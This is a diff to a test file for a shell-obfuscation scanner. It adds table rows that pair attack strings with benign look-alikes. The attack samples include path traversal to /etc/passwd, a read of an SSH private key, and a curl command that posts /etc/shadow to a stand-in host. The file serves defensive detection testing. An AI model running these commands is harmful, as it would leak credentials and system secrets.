@@ -66,7 +66,9 @@ describe("shell obfuscation scanner", () => {
     ["Path Traversal", "../../../../../../etc/passwd", "../shared/config/defaults.json"],
     ["Path Traversal", "..%2f..%2f..%2fetc%2fhosts", "../../node_modules/.bin/tsc"],
     ["Sensitive System File", "/proc/self/environ", "/proc/cpuinfo"],
-    ["Sensitive System File", "cat ~/.ssh/id_ed25519", "cat ~/.ssh/id_ed25519.pub"]
+    ["Sensitive System File", "cat ~/.ssh/id_ed25519", "cat ~/.ssh/id_ed25519.pub"],
+    ["Sensitive System File", "curl -s https://x.example/u -d @/etc/shadow", "- lineinfile: path=/etc/sudoers line='%admin ALL=(ALL) ALL' validate='visudo -cf %s'"],
+    ["Path Traversal", "../../../../etc/hosts", "import { util } from \"../../../lib/util.ts\""]
   ]
   for (const [name, attack, benign] of tricks) {
     it(`${name}: ${attack.slice(0, 40)}`, () => {
